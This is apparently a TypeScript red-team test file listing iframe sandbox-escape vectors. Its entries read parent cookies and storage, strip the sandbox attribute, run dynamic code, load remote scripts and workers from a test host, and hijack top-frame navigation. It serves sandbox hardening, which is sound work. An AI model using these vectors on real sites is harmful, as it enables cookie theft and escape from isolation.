import { type Vector, vector } from "./vector";

// biome-ignore lint/suspicious/noExplicitAny: names that browsers have and TypeScript doesn't know
declare const window: any, document: any, navigator: any, top: any, parent: any, location: any;

/** E02 to E11: ways out of the frame. Written as an attacker would, so some are odd. */
export const ESCAPES: readonly Vector[] = [
  vector("E02", "parent-document", () => `${parent.document.title}!`),
  vector("E02", "top-cookie", () => `cookie ${top.document.cookie}`),
  vector("E02", "parent-storage", () => typeof parent.localStorage.getItem),
  vector("E02", "top-fetch", () => typeof top.fetch("/").then),
  vector("E02", "top-by-frames", () => `${window.top.frames[0].document.title}!`),
  vector("E02", "parent-constructor", () => typeof parent.Function("return 1")()),
  vector("E02", "parent-location-read", () => parent.location.href),
  vector("E03", "frame-element", () => window.frameElement),
  vector("E03", "remove-sandbox", () => {
    window.frameElement.removeAttribute("sandbox");
    return "removed";
  }),
  vector("E03", "parent-query", () => parent.document.querySelector("iframe")),
  vector("E03", "document-domain", () => {
    document.domain = "localhost";
    return "set";
  }),
  vector("E04", "native-local-storage", () => {
    const own =
      Object.getOwnPropertyDescriptor(Object.getPrototypeOf(window), "localStorage") ??
      Object.getOwnPropertyDescriptor(window, "localStorage");
    const storage = own?.get?.call(window);
    return storage && `keys ${Object.keys(storage)}`;
  }),
  vector("E04", "native-cookie", () => {
    const own = Object.getOwnPropertyDescriptor(
      Object.getPrototypeOf(Object.getPrototypeOf(document)),
      "cookie",
    );
    return `cookie ${own?.get?.call(document)}`;
  }),
  vector(
    "E04",
    "indexed-db",
    () =>
      new Promise((resolve, reject) => {
        // The runtime's stand-in is what the app may have.
        if (!`${window.indexedDB.open}`.includes("[native code]")) throw new Error("a stand-in");
        const request = window.indexedDB.open("red-team");
        request.onsuccess = () => resolve("opened");
        request.onerror = () => reject(request.error);
      }),
  ),
  vector("E04", "indexed-db-list", async () => {
    if (!`${window.indexedDB.databases}`.includes("[native code]")) throw new Error("a stand-in");
    return `${(await window.indexedDB.databases()).length} databases`;
  }),
  vector("E04", "caches", async () => `${(await window.caches.keys()).length} caches`),
  vector("E04", "file-system", () => navigator.storage.getDirectory()),
  vector("E04", "cookie-store", async () => `${(await window.cookieStore.getAll()).length} cookies`),
  vector("E04", "service-worker", () => navigator.serviceWorker.register("/worker.js")),
  vector(
    "E04",
    "service-worker-list",
    async () => `${(await navigator.serviceWorker.getRegistrations()).length}`,
  ),
  vector("E04", "locks", () => navigator.locks.request("red-team", () => "held")),
  vector("E05", "blank-frame", (t) => typeof t.el("iframe").contentWindow.RTCPeerConnection === "function"),
  vector("E05", "blank-frame-storage", (t) => t.el("iframe").contentWindow.localStorage),
  vector("E05", "blank-frame-eval", (t) => t.el("iframe").contentWindow.eval("'ran'")),
  vector("E05", "srcdoc-frame", async (t) => {
    const frame = t.el("iframe", { srcdoc: "<p>x" });
    await t.sleep(300);
    return typeof frame.contentWindow.RTCPeerConnection === "function";
  }),
  vector("E05", "blob-frame", async (t) => {
    const src = URL.createObjectURL(new Blob(["<p>x"], { type: "text/html" }));
    const frame = t.el("iframe", { src });
    await t.sleep(300);
    return typeof frame.contentWindow.RTCPeerConnection === "function";
  }),
  vector("E05", "named-frame", (t) => {
    t.el("iframe", { name: "inner" });
    return typeof window.inner.RTCPeerConnection === "function";
  }),
  vector("E05", "frame-by-window-frames", (t) => {
    t.el("iframe");
    return typeof window.frames[window.frames.length - 1].RTCPeerConnection === "function";
  }),
  vector(
    "E05",
    "frame-content-document",
    (t) => t.el("iframe").contentDocument?.defaultView?.RTCPeerConnection,
  ),
  vector(
    "E05",
    "document-implementation",
    () => document.implementation.createHTMLDocument("x").defaultView?.RTCPeerConnection,
  ),
  vector("E06", "srcdoc-inline", (t) => t.nested("inline", `parent.postMessage("ran ${t.label}", "*")`)),
  vector("E06", "srcdoc-blob", (t) => t.nested("blob", `parent.postMessage("ran ${t.label}", "*")`)),
  vector("E06", "srcdoc-module", (t) => t.nested("module", `parent.postMessage("ran ${t.label}", "*")`)),
  vector("E06", "data-frame", (t) => {
    t.el("iframe", { src: `data:text/html,<script>parent.postMessage("ran ${t.label}", "*")</script>` });
    return t.message();
  }),
  vector("E06", "blob-frame", (t) => {
    const page = `<script>parent.postMessage("ran ${t.label}", "*")</script>`;
    t.el("iframe", { src: URL.createObjectURL(new Blob([page], { type: "text/html" })) });
    return t.message();
  }),
  vector("E06", "script-address-frame", (t) => {
    t.el("iframe", { src: `javascript:parent.postMessage("ran ${t.label}", "*")` });
    return t.message();
  }),
  vector("E06", "srcdoc-handler", (t) => {
    t.el("iframe", { srcdoc: `<img src=x onerror='parent.postMessage("ran ${t.label}", "*")'>` });
    return t.message();
  }),
  vector("E06", "object-data", (t) => {
    t.el("object", { data: `data:text/html,<script>parent.postMessage("ran ${t.label}", "*")</script>` });
    return t.message();
  }),
  vector("E06", "embed-data", (t) => {
    t.el("embed", {
      type: "text/html",
      src: `data:text/html,<script>parent.postMessage("ran ${t.label}", "*")</script>`,
    });
    return t.message();
  }),
  vector("E06", "looser-sandbox", (t) => {
    const script = `<script>parent.postMessage("ran ${t.label} " + typeof RTCPeerConnection, "*")</script>`;
    t.el("iframe", { sandbox: "allow-scripts allow-same-origin allow-top-navigation", srcdoc: script });
    return t.message();
  }),
  vector("E07", "eval", () => window["ev".concat("al")]("'ran'")),
  vector("E07", "function", () => window["Func".concat("tion")]("return 'ran'")()),
  vector("E07", "constructor", () => Object.getPrototypeOf(() => 0).constructor("return 'ran'")()),
  vector("E07", "async-function", () => Object.getPrototypeOf(async () => 0).constructor("return 'ran'")()),
  vector(
    "E07",
    "generator-function",
    () =>
      Object.getPrototypeOf(function* () {})
        .constructor("return 'ran'")()
        .next().value,
  ),
  vector("E07", "timer-text", async (t) => {
    window.setTimeout("globalThis.timerRan = 1", 0);
    await t.sleep(200);
    return window.timerRan;
  }),
  vector("E07", "script-address", async (t) => {
    const link = t.el("a", { href: "javascript:void(globalThis.linkRan = 1)" });
    link.addEventListener("click", (event: Event) => event.stopPropagation());
    link.click();
    await t.sleep(200);
    return window.linkRan;
  }),
  vector("E07", "handler-text", async (t) => {
    t.el("button", { onclick: "globalThis.handlerRan = 1" }).click();
    await t.sleep(100);
    return window.handlerRan;
  }),
  vector("E07", "inline-script", (t) => {
    t.el("script").textContent = "globalThis.inlineRan = 1";
    const script = document.createElement("script");
    script.textContent = "globalThis.inlineRan = 1";
    document.body.append(script);
    return window.inlineRan;
  }),
  vector(
    "E07",
    "document-write",
    (t) => {
      document.write(`<script>globalThis.written = "${t.label}"</script>`);
      return window.written;
    },
    { kills: true },
  ),
  vector("E07", "web-assembly", () => new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))),
  vector("E08", "import", (t) => import(`${t.http}.js`).then(() => "ran")),
  vector("E08", "import-json", (t) => import(`${t.http}.json`, { with: { type: "json" } }).then(() => "ran")),
  vector("E08", "import-css", (t) => import(`${t.http}.css`, { with: { type: "css" } }).then(() => "ran")),
  vector("E08", "import-data", () =>
    import("data:text/javascript,".concat("globalThis.dataRan=1")).then(() => "ran"),
  ),
  vector("E08", "import-in-blob-module", (t) => {
    const text = `import "${t.http}.js"; export default 1;`;
    return import(URL.createObjectURL(new Blob([text], { type: "text/javascript" }))).then(() => "ran");
  }),
  vector(
    "E08",
    "script-src",
    (t) =>
      new Promise((resolve, reject) => {
        const script = t.el("script", { src: `${t.http}.js` });
        script.onload = () => resolve("ran");
        script.onerror = () => reject(new Error("refused"));
      }),
  ),
  vector(
    "E08",
    "script-src-https",
    (t) =>
      new Promise((resolve, reject) => {
        const script = t.el("script", { src: `${t.https}.js` });
        script.onload = () => resolve("ran");
        script.onerror = () => reject(new Error("refused"));
      }),
  ),
  vector(
    "E08",
    "script-of-studio",
    (t) =>
      new Promise((resolve, reject) => {
        const script = t.el("script", { src: `${t.studio}/sandbox/shell.html` });
        script.onload = () => resolve("loaded");
        script.onerror = () => reject(new Error("refused"));
      }),
  ),
  vector("E08", "import-map", async (t) => {
    const map = document.createElement("script");
    map.type = "importmap";
    map.textContent = JSON.stringify({ imports: { evil: `${t.http}.js` } });
    document.head.append(map);
    return import("evil" as string).then(() => "ran");
  }),
  vector("E08", "copied-nonce", (t) => {
    const nonce = document.querySelector("script[nonce]")?.nonce ?? "";
    t.el("script", { nonce, src: `${t.http}.js` });
    return t.sleep(300);
  }),
  ...[
    ["eval", "postMessage((0, eval)('`ran`'))"],
    ["fetch", "fetch(HTTP).then(() => postMessage('fetched'))"],
    ["fetch-no-cors", "fetch(HTTP, { mode: 'no-cors' }).then(() => postMessage('fetched'))"],
    ["xhr", "const r = new XMLHttpRequest(); r.open('GET', HTTP, false); r.send(); postMessage('sent')"],
    ["import-scripts", "importScripts(HTTP + '.js'); postMessage('imported')"],
    ["import", "import(HTTP + '.js').then(() => postMessage('imported'))"],
    ["socket", "const s = new WebSocket(HTTP.replace('http', 'ws')); s.onopen = () => postMessage('open')"],
    ["event-source", "new EventSource(HTTP).onopen = () => postMessage('open')"],
    [
      "web-transport",
      "new WebTransport(HTTP.replace('http:', 'https:')).ready.then(() => postMessage('open'))",
    ],
    ["nested-worker", "new Worker(URL.createObjectURL(new Blob([`fetch('${HTTP}')`])))"],
    ["nested-worker-address", "new Worker(HTTP + '.js')"],
    ["indexed-db", "indexedDB.open('x').onsuccess = () => postMessage('opened')"],
    ["caches", "caches.keys().then((keys) => postMessage('caches ' + keys))"],
    ["peer-connection", "if (typeof RTCPeerConnection === 'function') postMessage('there is one')"],
  ].map(([name, text]) => ({
    ...vector("E09", name as string, () => 0),
    code: `(t) => t.worker(${JSON.stringify(text)}.replaceAll("HTTP", JSON.stringify(t.http)))`,
  })),
  vector(
    "E09",
    "module-worker-address",
    (t) => new Worker(`${t.http}.js`, { type: "module" }) && t.sleep(300),
  ),
  vector("E09", "shared-worker-address", (t) => new SharedWorker(`${t.http}.js`) && t.sleep(300)),
  vector(
    "E09",
    "data-worker",
    (t) =>
      new Promise((resolve, reject) => {
        const worker = new Worker(`data:text/javascript,postMessage("ran ${t.label}")`);
        worker.onmessage = (event) => resolve(event.data);
        worker.onerror = () => reject(new Error("refused"));
      }),
  ),
  vector("E09", "audio-worklet", (t) => new AudioContext().audioWorklet.addModule(`${t.http}.js`)),
  vector("E10", "open-address", (t) => window.open(t.http), { gesture: true }),
  vector("E10", "open-blank", () => window.open("about:blank"), { gesture: true }),
  vector("E10", "open-noopener", (t) => window.open(t.http, "_blank", "noopener"), { gesture: true }),
  vector("E10", "open-blob", () => window.open(URL.createObjectURL(new Blob(["x"]))), { gesture: true }),
  vector(
    "E10",
    "blank-link",
    (t) => {
      const link = t.el("a", { href: t.http, target: "_blank" });
      link.addEventListener("click", (event: Event) => event.stopPropagation());
      link.click();
    },
    { gesture: true },
  ),
  vector(
    "E10",
    "blank-form",
    (t) => {
      const form = t.el("form", { action: t.http, target: "_blank" });
      window.addEventListener("submit", (event: Event) => event.stopImmediatePropagation(), {
        capture: true,
        once: true,
      });
      form.requestSubmit();
    },
    { gesture: true },
  ),
  vector("E10", "picture-in-picture-window", () => window.documentPictureInPicture.requestWindow(), {
    gesture: true,
  }),
  vector(
    "E11",
    "top-location",
    (t) => {
      top.location = t.http;
      return t.sleep(200);
    },
    { gesture: true },
  ),
  vector(
    "E11",
    "top-replace",
    (t) => {
      top.location.replace(t.http);
      return t.sleep(200);
    },
    { gesture: true },
  ),
  vector(
    "E11",
    "parent-location",
    (t) => {
      parent.location = t.http;
      return t.sleep(200);
    },
    { gesture: true },
  ),
  vector(
    "E11",
    "parent-replace",
    (t) => {
      parent.location.replace(t.http);
      return t.sleep(200);
    },
    { gesture: true },
  ),
  ...["_top", "_parent"].flatMap((target) => [
    {
      ...vector("E11", `link${target.replace("_", "-")}`, () => 0, { gesture: true }),
      code: `(t) => {
        const link = t.el("a", { href: t.http, target: "${target}" });
        link.addEventListener("click", (event) => event.stopPropagation());
        link.click();
      }`,
    },
    {
      ...vector("E11", `form${target.replace("_", "-")}`, () => 0, { gesture: true }),
      code: `(t) => {
        const form = t.el("form", { action: t.http, target: "${target}" });
        window.addEventListener("submit", (event) => event.stopImmediatePropagation(), { capture: true, once: true });
        form.requestSubmit();
      }`,
    },
  ]),
  vector(
    "E11",
    "open-top",
    (t) => {
      window.open(t.http, "_top");
      return t.sleep(200);
    },
    { gesture: true },
  ),
  vector("E11", "top-history", () => {
    top.history.back();
    return "went";
  }),
];
